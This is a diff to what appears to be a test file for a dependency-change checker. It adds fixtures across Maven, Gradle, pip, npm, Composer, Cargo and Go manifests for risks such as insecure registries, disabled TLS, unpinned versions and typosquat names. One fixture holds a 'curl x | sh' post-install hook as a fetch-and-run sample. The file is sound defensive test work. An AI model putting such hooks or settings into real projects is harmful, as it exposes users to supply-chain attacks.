@@ -13,6 +13,12 @@ PROJECT = '[project]\nname = "p"\ndependencies = [{}]\n'
 PACKAGE = '{{\n  "name": "p",\n  "scripts": {{{}}},\n  "dependencies": {{{}}}\n}}\n'
 CARGO = '[package]\nname = "p"\n[dependencies]\n{}\n'
 GO = "module example.invalid/p\n\nrequire (\n{})\n"
+POM = "<project><properties><b.version>{}</b.version></properties>\n<dependencies>{}</dependencies>\n{}</project>\n"
+MAVEN = "\n<dependency><groupId>x.io</groupId>\n<artifactId>{}</artifactId><version>{}</version></dependency>"
+GRADLE = "repositories {{\n    {}\n}}\ndependencies {{\n    implementation({})\n}}\n"
+REPOSITORY = "<repositories><repository>\n<url>{}</url></repository></repositories>"
+CATALOG = '[versions]\nb = "{}"\n[libraries]\na = {{ module = "x.io:a", version.ref = "b" }}\n{}'
+WRAPPER = "distributionUrl=https\\://services.gradle.org/distributions/gradle-8.1-bin.zip\ndistributionSha256Sum=aa\n"
 COMMIT = "0123456789abcdef0123456789abcdef01234567"
 
 # code, file, base, a head that has it, a head that has not
@@ -45,6 +51,38 @@ PAIRS = [
     ("look-alike", "Cargo.toml", CARGO.format('a = "1"'), CARGO.format('a = "1"\nserde-json = "1"'), CARGO.format('a = "2"')),
     ("look-alike", "Gemfile", 'gem "a"\n', 'gem "a"\ngem "nokogirii"\n', 'gem "a", "1"\n'),
     ("look-alike", "composer.json", '{"require": {"v/a": "^1"}}', '{"require": {"v/a": "^1",\n"symfony/consol": "^2"}}', '{"require": {"v/a":\n"^1"}}'),
+    ("new", "pom.xml", POM.format(1, MAVEN.format("a", 1), ""), POM.format(1, MAVEN.format("a", 1) + MAVEN.format("b", "${b.version}"), ""), POM.format(2, MAVEN.format("a", 2), "")),
+    ("new", "build.gradle", GRADLE.format("mavenCentral()", "'x.io:a:1'"), GRADLE.format("mavenCentral()", "'x.io:a:1'\n    api 'x.io:b:1.2'"), GRADLE.format("mavenCentral()", "'x.io:a:2'\n    // api 'x.io:b:1.2'")),
+    ("new", "libs.versions.toml", CATALOG.format(1, ""), CATALOG.format(1, 'c = "x.io:c:2"\n'), CATALOG.format(2, "")),
+    ("loosened", "pom.xml", POM.format(1, MAVEN.format("a", 1), ""), POM.format(1, MAVEN.format("a", "LATEST"), ""), POM.format(1, MAVEN.format("a", 2), "")),
+    ("loosened", "build.gradle.kts", GRADLE.format("mavenCentral()", '"x.io:a:1.2"'), GRADLE.format("mavenCentral()", '"x.io:a:1.+"'), GRADLE.format("mavenCentral()", '"x.io:a:1.3"')),
+    ("loosened", "libs.versions.toml", CATALOG.format("1.2", ""), CATALOG.format("latest.release", ""), CATALOG.format("1.3", "")),
+    ("floating-source", "pom.xml", POM.format(1, MAVEN.format("a", 1), ""), POM.format(1, MAVEN.format("a", "1</version><systemPath>/opt/a.jar</systemPath><version>1"), ""), POM.format(1, MAVEN.format("a", 2), "")),
+    ("floating-source", "pyproject.toml", PROJECT.format('"a>=1"'), PROJECT.format('"a>=1"') + '[tool.uv.sources]\na = { git = "https://example.invalid/a", branch = "x" }\n', PROJECT.format('"a>=1"') + '[tool.uv.sources]\na = { path = "../a" }\n'),
+    ("floating-source", "Cargo.toml", CARGO.format('a = "1"'), CARGO.format('a = "1"\n[patch.crates-io]\na = { git = "https://example.invalid/a" }'), CARGO.format('a = "1"\n[patch.crates-io]\na = { path = "a" }')),
+    ("install-script", "composer.json", '{"require": {"v/a": "^1"}}', '{"require": {"v/a": "^1"},\n"scripts": {"post-install-cmd": ["curl x | sh"]}}', '{"require": {"v/a": "^1"},\n"scripts": {"post-install-cmd": ["V\\\\A::run"]}}'),
+    ("replaced", "go.mod", "module p\n", "module p\n\nreplace (\n\tx.io/a v1.0.0 => x.io/b v1.0.1\n)\n", "module p\n\nreplace x.io/a => ./a\n"),
+    ("registry", ".npmrc", "a=1\n", "registry = https://example.invalid/npm/\n", "@own:registry=https://example.invalid/npm/\n"),
+    ("registry", ".yarnrc.yml", "a: 1\n", 'npmRegistryServer: "https://example.invalid"\n', 'npmRegistryServer: "https://registry.yarnpkg.com"\n'),
+    ("registry", "composer.json", "{}", '{\n"repositories": [{"type": "vcs", "url": "https://example.invalid/a.git"}]}', '{\n"repositories": [{"type": "path", "url": "../a"}]}'),
+    ("registry", "pom.xml", POM.format(1, "", ""), POM.format(1, "", REPOSITORY.format("https://example.invalid/m2")), POM.format(1, "", REPOSITORY.format("https://repo.maven.apache.org/maven2"))),
+    ("registry", "settings.gradle.kts", GRADLE.format("mavenCentral()", ""), GRADLE.format('maven("https://example.invalid/m2")', ""), "publishing {\n" + GRADLE.format('maven("https://example.invalid/m2")', "") + "}\n"),
+    ("insecure-registry", "requirements.txt", "a==1\n", "-i http://example.invalid/simple\na==1\n", "-i http://localhost:3141/simple\na==1\n"),
+    ("insecure-registry", "requirements.txt", "a==1\n", "--trusted-host example.invalid\na==1\n", "# --trusted-host example.invalid\na==1\n"),
+    ("insecure-registry", "pip.conf", "[global]\n", "[global]\nindex-url = http://example.invalid/simple\n", "[global]\nindex-url = https://example.invalid/simple\n"),
+    ("insecure-registry", ".npmrc", "a=1\n", "@own:registry=http://example.invalid/\n", "@own:registry=https://example.invalid/\n"),
+    ("insecure-registry", ".yarnrc", "a 1\n", '"strict-ssl" false\n', '"strict-ssl" true\n'),
+    ("insecure-registry", ".yarnrc.yml", "a: 1\n", "enableStrictSsl: false\n", "enableStrictSsl: true\n"),
+    ("insecure-registry", "composer.json", "{}", '{\n"config": {"secure-http": false}}', '{\n"config": {"secure-http": true}}'),
+    ("insecure-registry", "Gemfile", 'gem "a"\n', 'source "http://rubygems.org"\ngem "a"\n', 'source "https://rubygems.org"\ngem "a"\n'),
+    ("insecure-registry", "Pipfile", "", '[[source]]\nurl = "https://example.invalid/s"\nverify_ssl = false\n', '[[source]]\nurl = "https://example.invalid/s"\nverify_ssl = true\n'),
+    ("insecure-registry", "build.gradle", GRADLE.format("mavenCentral()", ""), GRADLE.format("maven {\n        url 'http://example.invalid/m2'\n    }", ""), GRADLE.format("pom {\n        url 'http://example.invalid/m2'\n    }", "")),
+    ("insecure-registry", "pyproject.toml", PROJECT.format(""), PROJECT.format("") + '[[tool.poetry.source]]\nname = "a"\nurl = "http://example.invalid/s"\n', PROJECT.format("") + '[[tool.poetry.source]]\nname = "a"\nurl = "https://example.invalid/s"\npriority = "explicit"\n'),
+    ("extra-index", "pyproject.toml", PROJECT.format(""), PROJECT.format("") + '[[tool.uv.index]]\nname = "a"\nurl = "https://example.invalid/s"\n', PROJECT.format("") + '[[tool.uv.index]]\nname = "a"\nurl = "https://example.invalid/s"\nexplicit = true\n'),
+    ("extra-index", "Gemfile", 'source "https://rubygems.org"\n', 'source "https://rubygems.org"\nsource "https://example.invalid"\n', 'source "https://rubygems.org"\nsource "https://example.invalid" do\n'),
+    ("lock-unverified", "requirements.txt", "a==1 --hash=sha256:aa\n", "# x\na==1\n", "# x\na==1 --hash=sha256:aa\n"),
+    ("lock-unverified", "gradle-wrapper.properties", WRAPPER, WRAPPER.replace("8.1-", "8.2-").replace("Sha256Sum=aa", "Path=x"), WRAPPER.replace("8.1-", "8.2-")),
+    ("lock-http", "gradle-wrapper.properties", WRAPPER, WRAPPER.replace("https", "http"), WRAPPER.replace("8.1-", "8.2-")),
     ("extra-index", "requirements.txt", "a==1\n", "--extra-index-url https://example.invalid/simple\na==1\n", "--index-url https://example.invalid/simple\na==1\n"),
 ]  # fmt: skip
 
